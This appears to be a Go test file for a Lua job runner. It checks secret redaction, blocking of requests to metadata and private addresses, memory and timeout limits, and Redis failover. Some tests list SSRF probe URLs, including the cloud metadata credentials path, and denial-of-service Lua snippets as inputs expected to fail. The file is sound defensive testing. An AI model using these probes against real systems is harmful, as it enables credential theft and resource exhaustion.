// TestReliabilityEchoingGateway puts a gateway that echoes the request (its
// URL with the access token, its body, the secret) into every WeCom error
// message between runner and the emulator: no secret reaches runner exec's
// output, serve's log, the history, a run's log or the status page.
func TestReliabilityEchoingGateway(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	emu, err := url.Parse(r.srv.BaseURL())
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: emu.Scheme, Host: emu.Host})
	proxy.ModifyResponse = func(res *http.Response) error {
		body, err := io.ReadAll(res.Body)
		if err != nil {
			return err
		}
		var answer map[string]any
		if json.Unmarshal(body, &answer) == nil && answer["errcode"] != nil && answer["errcode"] != float64(0) {
			// The secret of the client: the one gettoken was sent, else the
			// contacts client's, whose token the other calls carry.
			secret := res.Request.URL.Query().Get("corpsecret")
			if secret == "" {
				secret = relContactsSecret
			}
			answer["errmsg"] = fmt.Sprintf("%v; gateway echo: %s %s body %s; secret %s", answer["errmsg"],
				res.Request.Method, res.Request.URL.RequestURI(), res.Request.Header.Get("X-Echo-Body"), secret)
			body, _ = json.Marshal(answer)
		}
		res.Body = io.NopCloser(bytes.NewReader(body))
		res.ContentLength = int64(len(body))
		res.Header.Set("Content-Length", strconv.Itoa(len(body)))
		return nil
	}
	gw := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		body, _ := io.ReadAll(req.Body)
		req.Body = io.NopCloser(bytes.NewReader(body))
		req.Header.Set("X-Echo-Body", string(body))
		proxy.ServeHTTP(w, req)
	}))
	defer gw.Close()
	for i, kv := range r.env {
		if strings.HasPrefix(kv, "WECOM_BASE_URL=") {
			r.env[i] = "WECOM_BASE_URL=" + gw.URL + emu.Path
		}
	}

	const script = `
		local wecom = require("wecom")
		local ok, err = pcall(wecom.user.get, "nobody")
		print(tostring(err))
		require("log").warn("lookup failed", {err = err})
		wecom.department.create{name = "` + relDept + `", parent_id = 424242}
	`
	run := r.exec(t, script)
	relWantRun(t, run, 1, "errcode 60004", "gateway echo: POST /cgi-bin/department/create?access_token=REDACTED", "secret REDACTED")
	if !strings.Contains(run.stdout, "errcode 60111") || !strings.Contains(run.stdout, "access_token=REDACTED&userid=nobody") {
		t.Errorf("the error printed by the script:\n%s", run.stdout)
	}
	wrong := r.startEnv(t, []string{"WECOM_CONTACTS_SECRET=SECRET-wrong-5e6f70-never-appear"}, "exec", "--client", "contacts", r.script(t, "wrong.lua", script))
	r.mu.Lock()
	r.secrets = append(r.secrets, "SECRET-wrong-5e6f70-never-appear")
	r.mu.Unlock()
	relWantRun(t, wrong.wait(t), 1, "errcode 40001", "corpsecret=REDACTED")

	r.jobsFile(t, "", `  - {name: echo, schedule: "* * * * * *", script: echo.lua, client: contacts}`)
	r.script(t, "echo.lua", script)
	p, status := r.serve(t)
	finished := regexp.MustCompile(`msg="run finished" job=echo run=(\S+)`)
	relWait(t, "a failed run", func() bool { return finished.MatchString(p.errOut.String()) })
	// The page of the run that finished (later firings may still run).
	ended := finished.FindStringSubmatch(p.errOut.String())[1]
	if page := r.get(t, strings.TrimSuffix(status, "/")+"/jobs/echo/runs/"+ended); !strings.Contains(page, "REDACTED") {
		t.Errorf("the run's page shows no redacted echo:\n%s", page)
	}
	relWantRun(t, p.stop(t), 0)
	history := r.history(t, "echo")
	r.assertNoSecrets(t, "jobs history", history)
	if !strings.Contains(history, "access_token=REDACTED") {
		t.Errorf("the history shows no redacted echo:\n%s", history)
	}
	id := strings.Fields(historyLines(history, "schedule")[0])[0]
	log := r.run(t, "jobs", "history", "echo", "--log", id)
	if !strings.Contains(log.stdout, "secret REDACTED") {
		t.Errorf("the run's log shows no redacted echo:\n%s", log.stdout)
	}
}

// TestReliabilityHTTPAllow: a script cannot use http to reach the cloud's
// metadata service, the status page, the emulator or a private network,
// whether it names the address, a name that resolves to it, or a server that
// redirects there; what http_allow lists stays reachable, and so does WeCom
// through its client.
func TestReliabilityHTTPAllow(t *testing.T) {
	t.Parallel()
	r := newRelRig(t)
	hr := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if to := req.URL.Query().Get("to"); to != "" {
			http.Redirect(w, req, to, http.StatusFound)
			return
		}
		io.WriteString(w, "employees")
	}))
	defer hr.Close()
	_, hrPort, _ := net.SplitHostPort(hr.Listener.Addr().String())
	hrByName := "http://localhost:" + hrPort + "/"
	r.jobsFile(t, "http_allow: [localhost]\n", `  - {name: probe, schedule: "@daily", script: probe.lua, client: contacts}`)
	r.script(t, "probe.lua", "-- written once the status page's address is known\n")
	serve, status := r.serve(t)
	targets := []struct{ name, url, want string }{
		{"metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "169.254.169.254 is a link-local address"},
		{"metadata, IPv4 in IPv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "is a link-local address"},
		{"status page", status + "jobs/probe", "127.0.0.1 is a loopback address"},
		{"emulator", r.srv.BaseURL() + "gettoken?corpid=x&corpsecret=y", "127.0.0.1 is a loopback address"},
		{"private", "http://10.255.255.1/", "10.255.255.1 is a private address"},
		{"shared", "http://100.100.100.200/latest/meta-data/", "100.100.100.200 is a reserved address"},
		{"unspecified", "http://0.0.0.0:" + hrPort + "/", "0.0.0.0 is an unspecified address"},
		{"redirect to the status page", hrByName + "?to=" + url.QueryEscape(status), "redirected to " + status + ": 127.0.0.1 is a loopback address"},
		{"redirect to metadata", hrByName + "?to=" + url.QueryEscape("http://169.254.169.254/latest/"), "redirected to http://169.254.169.254/latest/: 169.254.169.254 is a link-local address"},
		{"listed by name", hrByName, "ok employees"},
	}
	var src strings.Builder
	src.WriteString("local http = require(\"http\")\n")
	for _, tt := range targets {
		fmt.Fprintf(&src, "do local ok, r = pcall(http.get, %q, {timeout = 20}); print(%q, ok and \"ok \" .. r.body or tostring(r)) end\n", tt.url, tt.name)
	}
	src.WriteString(`print("wecom", require("wecom").user.get("zhangsan").name)` + "\n")
	run := r.run(t, "exec", "--config", "jobs.yaml", "--client", "contacts", r.script(t, "probe.lua", src.String()))
	relWantRun(t, run, 0)
	for _, tt := range targets {
		line := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(tt.name) + `\t(.*)$`).FindStringSubmatch(run.stdout)
		if line == nil || !strings.Contains(line[1], tt.want) {
			t.Errorf("%s: %v, want %q", tt.name, line, tt.want)
		}
	}
	if !strings.Contains(run.stdout, "wecom\t张三\n") {
		t.Errorf("the WeCom client does not reach the emulator:\n%s", run.stdout)
	}
	relWantRun(t, serve.stop(t), 0)
}

// relMemoryLimit is the memory limit of the runaway runs below: small, so
// that 1.5 times it is far below what the attacks would take unbounded.
const relMemoryLimit = 128 << 20

// TestReliabilityRunawayBuiltins: scripts that make a builtin take unbounded
// time, memory or values, each run by runner exec with --memory-limit 128MiB:
// the values a real report needs work (no Go panic: gopher-lua's registry
// grows), every attack fails with a message naming the limit or the
// timeout, none takes the process past 1.5 times the memory limit, and none
// outlives its timeout by more than the second the run has to stop.
func TestReliabilityRunawayBuiltins(t *testing.T) {
	limit := []string{"--memory-limit", "128MiB"}
	tests := []struct {
		name    string
		src     string
		args    []string
		code    int
		stdout  string
		stderr  []string
		timeout time.Duration // the --timeout given, whose overrun is checked
	}{
		{name: "table.concat of a million strings", src: `
			local p = {} for i = 1, 1000000 do p[i] = "a" end
			print(#table.concat(p, ","))`, stdout: "1999999\n"},
		{name: "3000 values", src: `
			local p = {} for i = 1, 3000 do p[i] = "a" end
			print(#table.concat(p, ","), select("#", unpack(p)), #string.char(string.byte(("x"):rep(3000), 1, -1)))`, stdout: "5999\t3000\t3000\n"},
		{name: "unpack beyond the registry", src: `
			local p = {} for i = 1, 1100000 do p[i] = i end
			print(select("#", unpack(p)))`, code: 1, stderr: []string{"runner: ", "script.lua:"}},
		{name: "doubling a string", src: `local s = "x" while true do s = s .. s end`,
			code: 1, stderr: []string{"script.lua:1:", "concatenation (..): result of", "exceeds the limit of 33554432"}},
		{name: "gsub x to xx over 1 MB, repeated", src: `local s = ("x"):rep(1e6) while true do s = s:gsub("x", "xx") end`,
			code: 1, stderr: []string{"string.gsub: result of", "exceeds the limit"}},
		{name: "gsub with a huge replacement", src: `local s = ("x"):rep(1e5):gsub(".", ("a"):rep(1e6))`,
			code: 1, stderr: []string{"string.gsub: result of", "exceeds the limit"}},
		{name: "pathological pattern", src: `print(string.find(("a"):rep(5000), ("a*"):rep(100) .. "b"))`,
			args: []string{"--timeout", "3s"}, code: 1, stderr: []string{"timed out"}, timeout: 3 * time.Second},
		{name: "gsub in a loop past the timeout", src: `local s = ("x"):rep(5e5) while true do s:gsub("x", "y") end`,
			args: []string{"--timeout", "3s"}, code: 1, stderr: []string{"timed out"}, timeout: 3 * time.Second},
		{name: "string.format width", src: `print(string.format("%99999999d", 1))`, code: 1, stderr: []string{"invalid format"}},
		{name: "growing a table", src: `local t = {} while true do t[#t + 1] = ("x"):rep(4096) .. #t end`,
			args: []string{"--timeout", "60s"}, code: 1, stderr: []string{"out of memory", "the limit of 128 MiB"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRelRig(t)
			run := r.exec(t, tt.src, append(append([]string{}, limit...), tt.args...)...)
			relWantRun(t, run, tt.code, tt.stderr...)
			if tt.stdout != "" && run.stdout != tt.stdout {
				t.Errorf("stdout = %q, want %q", run.stdout, tt.stdout)
			}
			t.Logf("peak RSS %d MiB with a limit of %d MiB; %v", run.maxRSS>>20, relMemoryLimit>>20, run.elapsed.Round(time.Millisecond))
			if run.maxRSS > relMemoryLimit*3/2 {
				t.Errorf("peak RSS %d MiB, more than 1.5 times the limit of %d MiB", run.maxRSS>>20, relMemoryLimit>>20)
			}
			// The process starts, runs for the timeout, stops within a
			// second, and exits: a busy machine gets a few more seconds,
			// the 13 minutes of an unchecked builtin do not pass.
			if tt.timeout > 0 && run.elapsed > tt.timeout+5*time.Second {
				t.Errorf("the run took %v with --timeout %v", run.elapsed, tt.timeout)
			}
		})
	}
}

// TestReliabilityHugeInputs: a CSV file of one endless line and a huge jobs
// file fail at once with the file and the limit, within 1.5 times the
// memory limit.
func TestReliabilityHugeInputs(t *testing.T) {
	r := newRelRig(t)
	line := bytes.Repeat([]byte("x"), 32<<20)
	r.write(t, "one-line.csv", append([]byte("name,mobile\n"), line...))
	run := r.exec(t, `print(#require("csv").read("one-line.csv"))`, "--memory-limit", "128MiB")
	relWantRun(t, run, 1, "one-line.csv:2: a line longer than 1048576 bytes, the limit of a CSV line")
	t.Logf("csv.read of a 32 MiB line: peak RSS %d MiB", run.maxRSS>>20)
	if run.maxRSS > relMemoryLimit*3/2 {
		t.Errorf("csv.read: peak RSS %d MiB", run.maxRSS>>20)
	}

	big := append([]byte("timezone: UTC\n# "), line...)
	r.write(t, "big.yaml", big)
	for _, args := range [][]string{{"validate", "--config", "big.yaml"}, {"exec", "--config", "big.yaml", "script.lua"}} {
		r.script(t, "script.lua", `print("ran")`)
		run := r.run(t, args...)
		relWantRun(t, run, 2)
		if !strings.Contains(run.stdout+run.stderr, "big.yaml: more than 4194304 bytes (4 MiB), the limit of a jobs file") {
			t.Errorf("runner %s: the limit is not named:\n%s%s", args[0], run.stdout, run.stderr)
		}
		t.Logf("runner %s of a 32 MiB jobs file: peak RSS %d MiB", args[0], run.maxRSS>>20)
		if run.maxRSS > relMemoryLimit*3/2 {
			t.Errorf("%s: peak RSS %d MiB", args[0], run.maxRSS>>20)
		}
	}
}

// TestReliabilityBusyBuiltinSignals: runner exec inside a builtin that
// would run for hours stops at SIGTERM; under serve, a job stuck in one
// times out at its timeout, the next firing runs, and shutdown keeps to the
// grace period.
func TestReliabilityBusyBuiltinSignals(t *testing.T) {
	t.Parallel()
	const busy = `print("busy") string.find(("a"):rep(5000), ("a*"):rep(100) .. "b")`
	r := newRelRig(t)
	p := r.startExec(t, busy, "--timeout", "10m")
	relWait(t, "the script to start", func() bool { return strings.Contains(p.out.String(), "busy") })
	run := p.stop(t)
	relWantRun(t, run, 1, "cancelled")
	t.Logf("runner exec stopped %v after it started (SIGTERM)", run.elapsed.Round(time.Millisecond))

	r.jobsFile(t, "grace: 3s\n", `  - {name: busy, schedule: "*/3 * * * * *", script: busy.lua, client: contacts, timeout: 1s}`)
	r.script(t, "busy.lua", busy)
	srv, _ := r.serve(t)
	relWait(t, "a timed-out run followed by another run", func() bool {
		log := srv.errOut.String()
		i := strings.Index(log, "result=timed_out")
		return i >= 0 && strings.Contains(log[i:], `msg="run started" job=busy`)
	})
	if strings.Contains(srv.errOut.String(), "still running") {
		t.Errorf("a firing was skipped because the stuck run was still running:\n%s", srv.errOut)
	}
	signalled := time.Now()
	run = srv.stop(t)
	stopped := time.Since(signalled)
	t.Logf("serve stopped %v after SIGTERM with grace 3s", stopped.Round(time.Millisecond))
	if stopped > 3*time.Second+5*time.Second {
		t.Errorf("serve took %v to stop with grace 3s", stopped)
	}
	history := r.history(t, "busy")
	if !strings.Contains(history, "timed_out: timed out after 1s") {
		t.Errorf("no run timed out:\n%s", history)
	}
}

// TestReliabilityRedisKilledInstance runs three runner serve sharing a real
// redis-server and kills (SIGKILL) the one running a forbid job with
// catchup: once. Another instance takes over the job's running lock as soon
// as the dead instance's heartbeat expired, without waiting for the lock's
// lease, and catches up the firing; every firing of a job running each
// second has one record in the history, not one per instance.
func TestReliabilityRedisKilledInstance(t *testing.T) {
	t.Parallel()
	redis := redistest.Start(t)
	r := newRelRig(t)
	at := (time.Now().Second() + 8) % 60
	r.jobsFile(t, "state: "+redis.URL()+"\ngrace: 5s\n", `  - name: long
    schedule: "`+strconv.Itoa(at)+` * * * * *"
    script: long.lua
    client: contacts
    catchup: once
  - {name: tick, schedule: "* * * * * *", script: tick.lua, client: contacts}
`)
	// The first run of long sleeps until it is killed; the next one ends at
	// once. kv is in Redis, shared by the instances.
	r.script(t, "long.lua", `
		local log = require("log")
		if not kv.get("slept") then
			kv.set("slept", true)
			log.info("long started")
			time.sleep(600)
		end
		log.info("long caught up", {user = wecom.user.get("zhangsan").userid})
	`)
	r.script(t, "tick.lua", "return 1\n")
	var serves []*relProc
	for range 3 {
		serves = append(serves, r.start(t, "serve", "--listen", ""))
	}
	var victim *relProc
	relWait(t, "the first run of long", func() bool {
		for _, p := range serves {
			if strings.Contains(p.errOut.String(), `msg="long started"`) {
				victim = p
				return true
			}
		}
		return false
	})
	victim.kill(t)
	killed := time.Now()

	var survivor *relProc
	caughtUp := regexp.MustCompile(`msg="run started" job=long run=(\S+) trigger=catchup`)
	deadline := time.Now().Add(time.Minute) // the heartbeat lives 15 s
	for survivor == nil {
		for _, p := range serves {
			if p != victim && caughtUp.MatchString(p.errOut.String()) {
				survivor = p
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no instance caught up long after the kill:\n%s\n%s", serves[0].errOut, serves[1].errOut)
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Logf("long caught up %v after the kill", time.Since(killed).Round(100*time.Millisecond))
	id := caughtUp.FindStringSubmatch(survivor.errOut.String())[1]
	relWait(t, "the catch-up run to end", func() bool {
		return strings.Contains(survivor.errOut.String(), `msg="run finished" job=long run=`+id+` result=ok`)
	})
	if log := survivor.errOut.String(); !strings.Contains(log, `msg="running lock taken over: its holder's heartbeat expired" job=long`) {
		t.Errorf("the survivor did not take over the running lock:\n%s", log)
	}
	for _, p := range serves {
		if p != victim {
			relWantRun(t, p.stop(t), 0)
		}
	}

	long := r.history(t, "long")
	if scheduled := historyLines(long, "schedule"); len(scheduled) == 0 || !strings.Contains(scheduled[len(scheduled)-1], "interrupted: the instance ") {
		t.Errorf("long: the killed run is not recorded as interrupted:\n%s", long)
	}
	if caught := historyLines(long, "catchup"); len(caught) != 1 || !strings.HasSuffix(caught[0], " ok") {
		t.Errorf("long: want one catch-up run, ok:\n%s", long)
	}
	tick := r.history(t, "tick")
	if strings.Contains(tick, "claimed by") {
		t.Errorf("tick: records of firings claimed by another instance:\n%s", tick)
	}
	perFiring := map[string]int{}
	for _, line := range historyLines(tick, "schedule") {
		f := strings.Fields(line)
		perFiring[strings.Join(f[3:6], " ")]++ // SCHEDULED (after RUN, TRIGGER, BY): day, date and time
	}
	if len(perFiring) < 10 {
		t.Errorf("tick: %d firings recorded:\n%s", len(perFiring), tick)
	}
	for at, n := range perFiring {
		if n != 1 {
			t.Errorf("tick: the firing at %s has %d records, want 1:\n%s", at, n, tick)
		}
	}
}

// TestReliabilityHealthzRedisFull: with a Redis that refuses writes (its
// memory is full) but still answers reads, /healthz answers 503 with the
// reason, without the password, and 200 again once Redis takes writes.
func TestReliabilityHealthzRedisFull(t *testing.T) {
	t.Parallel()
	const password = "redis-pw-4c1d9e-never-appear"
	redis := redistest.Start(t, "--requirepass", password)
	r := newRelRig(t)
	r.mu.Lock()
	r.secrets = append(r.secrets, password)
	r.mu.Unlock()
	r.jobsFile(t, "state: redis://:"+password+"@"+redis.Addr()+"/0\n", `  - {name: tick, schedule: "@daily", script: tick.lua, client: contacts}`)
	r.script(t, "tick.lua", "return 1\n")
	p, url := r.serve(t)
	healthz := func() (int, string) {
		res, err := http.Get(url + "healthz")
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		return res.StatusCode, relReadAll(t, res.Body)
	}
	if code, body := healthz(); code != 200 {
		t.Fatalf("/healthz = %d %q before Redis is full", code, body)
	}
	setMaxMemory := func(v string) {
		t.Helper()
		conn, err := net.Dial("tcp", redis.Addr())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		fmt.Fprintf(conn, "AUTH %s\r\nCONFIG SET maxmemory %s\r\n", password, v)
		reply := make([]byte, 64)
		n, _ := io.ReadAtLeast(conn, reply, len("+OK\r\n+OK\r\n"))
		if string(reply[:n]) != "+OK\r\n+OK\r\n" {
			t.Fatalf("CONFIG SET maxmemory %s: %q", v, reply[:n])
		}
	}
	setMaxMemory("1")
	code, body := healthz()
	if code != http.StatusServiceUnavailable || !strings.HasPrefix(body, "degraded: the state cannot be written: OOM") {
		t.Errorf("/healthz with Redis full = %d %q, want 503 and why", code, body)
	}
	r.assertNoSecrets(t, "/healthz", body)
	setMaxMemory("0")
	if code, body := healthz(); code != 200 {
		t.Errorf("/healthz once Redis takes writes again = %d %q", code, body)
	}
	relWantRun(t, p.stop(t), 0)
}
